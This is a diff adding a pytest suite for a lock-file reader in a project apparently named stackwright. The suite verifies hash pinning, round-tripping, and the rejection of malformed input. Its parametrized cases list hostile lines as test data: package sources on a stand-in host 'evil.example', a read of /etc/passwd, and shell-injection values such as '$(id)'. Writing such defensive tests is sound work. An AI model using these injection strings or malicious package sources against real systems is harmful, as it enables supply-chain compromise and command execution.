@@ -1,0 +1,90 @@
+"""A lock says what it is for, is read line by line, and never lets anything else through."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rows import CELL, LOCK, ROOT, cell
+
+from stackwright import lock
+from stackwright.errors import LockError
+
+
+def test_the_committed_lock_is_read() -> None:
+    assert LOCK.row == "cuda12-torch"
+    assert LOCK.version("torch") == "2.6.0"
+    assert LOCK.base.suite == "trixie"
+    assert lock.request(CELL) == LOCK.request
+
+
+def test_every_package_of_a_lock_has_a_hash() -> None:
+    blocks = lock.pins(LOCK).split("==")
+    assert all("--hash=sha256:" in block for block in blocks[1:])
+
+
+def test_writing_and_reading_are_inverse(tmp_path: Path) -> None:
+    path = tmp_path / "x.txt"
+    path.write_text(lock.write(LOCK.row, LOCK.request, LOCK.base, pins=lock.pins(LOCK)))
+    assert lock.read(path) == LOCK
+
+
+def test_a_refusal_is_kept(tmp_path: Path) -> None:
+    path = tmp_path / "x.txt"
+    path.write_text(lock.write("r", "q", LOCK.base, refused="Because a needs b"))
+    assert lock.read(path).refused == "Because a needs b"
+
+
+@pytest.mark.parametrize(
+    "value",
+    [{"torch": "2.7.0"}, {"python": "3.12"}, {"os": "debian-12"}, {"gcc": "12"}, {"keras": "3.0"}],
+)
+def test_a_changed_value_makes_the_lock_out_of_date(value: dict[str, str]) -> None:
+    assert lock.request(cell(**value)) != LOCK.request
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--extra-index-url http://evil.example/simple",
+        "torch @ http://evil.example/torch.whl",
+        "-r /etc/passwd",
+        "torch==2.6.0; touch /tmp/x",
+        "torch==$(id)",
+        "torch==2.6.0 --hash=sha256:short",
+        "    --hash=md5:0123456789abcdef0123456789abcdef",
+    ],
+)
+def test_a_foreign_line_is_refused(line: str, tmp_path: Path) -> None:
+    path = tmp_path / "x.txt"
+    path.write_text(LOCK.text + line + "\n")
+    with pytest.raises(LockError, match="neither a pin nor a hash"):
+        lock.read(path)
+
+
+@pytest.mark.parametrize("base", ["a b", "x\ny", "`id`", "$(id)", "';'"])
+def test_a_foreign_value_of_the_base_is_refused(base: str, tmp_path: Path) -> None:
+    from dataclasses import replace
+
+    path = tmp_path / "x.txt"
+    path.write_text(lock.write("r", "q", replace(LOCK.base, suite=base), pins=lock.pins(LOCK)))
+    with pytest.raises(LockError, match="not a lock"):
+        lock.read(path)
+
+
+@given(st.binary(max_size=400))
+def test_any_bytes_are_a_lock_or_a_lock_error(data: bytes) -> None:
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "x.txt"
+        path.write_bytes(data)
+        with pytest.raises(LockError):
+            lock.read(path)
+
+
+def test_a_missing_lock_says_what_to_do() -> None:
+    with pytest.raises(LockError, match=r"build\.py lock"):
+        lock.read(ROOT / "locks" / "no-such-row.txt")
